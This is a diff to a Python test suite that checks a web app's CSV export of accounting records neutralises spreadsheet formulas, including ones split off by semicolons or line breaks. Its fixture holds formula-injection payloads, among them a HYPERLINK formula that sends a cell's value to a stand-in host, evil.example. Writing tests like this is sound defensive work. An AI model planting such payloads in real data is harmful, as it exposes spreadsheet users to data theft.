@@ -311,13 +311,46 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(c
     reconciliations = {row["id"]: row for row in csv_rows(pull(client, RECONCILIATIONS, acme_key, accept="text/csv"))}
     account = reconciliations[str(hostile_ids[Service.RECONCILIATIONS])]
     assert account["accountName"] == "'-2+3"
-    assert account["accountNumber"] == "'\r=1"
+    assert account["accountNumber"] == "'\r'=1"  # after the CR, a ; spreadsheet's next row
     assert account["signatures.reviewer.assignedTo"] == "'\t=1+1"
     assert account["autoRecType"] == "''=quoted already"  # one quote more, which an import takes off again
     assert {row["entity.name"] for row in reconciliations.values()} == {"'@North", "South"}
     # Amounts, numbers and dates stay what they are: a negative amount is still a number to the spreadsheet.
     assert account["glBalance"] == account["difference"] == "-1234.50"
     assert account["period.month"].isdigit() and account["entity.id"].isdigit()
+
+
+SPLIT_OFF = {  # text whose formula comes after a ; or a line break, where a ; spreadsheet starts a new cell
+    "description": 'Review;=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "tags": ["ok", "=1+1", "@SUM(1+1)", '"=2+2', "-3"],
+    "preparer_signed_by": "Ann\n+4",
+    "account_name": "Cash;-2+3",
+    "account_number": "1000;\"=1",
+    "auto_rec_type": "auto\r\n@x",
+    "reviewer_assigned_to": "Close, then;",
+}
+
+
+def test_csv_read_with_semicolons_as_separator_has_no_cell_starting_a_formula(client, acme_key):
+    checklist_id = db.session.scalar(select(func.min(ChecklistItem.id)))
+    db.session.execute(update(ChecklistItem).where(ChecklistItem.id == checklist_id).values(
+        description=SPLIT_OFF["description"], tags=SPLIT_OFF["tags"],
+        preparer_signed_by=SPLIT_OFF["preparer_signed_by"]))
+    db.session.execute(update(Reconciliation).where(Reconciliation.id == db.session.scalar(
+        select(func.min(Reconciliation.id)))).values(
+        account_name=SPLIT_OFF["account_name"], account_number=SPLIT_OFF["account_number"],
+        auto_rec_type=SPLIT_OFF["auto_rec_type"], reviewer_assigned_to=SPLIT_OFF["reviewer_assigned_to"]))
+    db.session.commit()
+
+    cells = []
+    for path in (CHECKLISTS, RECONCILIATIONS):
+        text = pull(client, path, acme_key, accept="text/csv").get_data(as_text=True)
+        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
+
+    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")] == []
+    # Each part was split off and neutralised, not lost (a " as the comma-separated file doubles it).
+    for start in ("'=HYPERLINK(", "'=1+1", "'@SUM(1+1)", "'\"\"=2+2", "'-3", "'+4", "'-2+3", "'\"\"=1", "'@x"):
+        assert any(cell.startswith(start) for cell in cells), start
 
 
 def test_json_keeps_text_as_it_was(client, acme_key, hostile_ids):
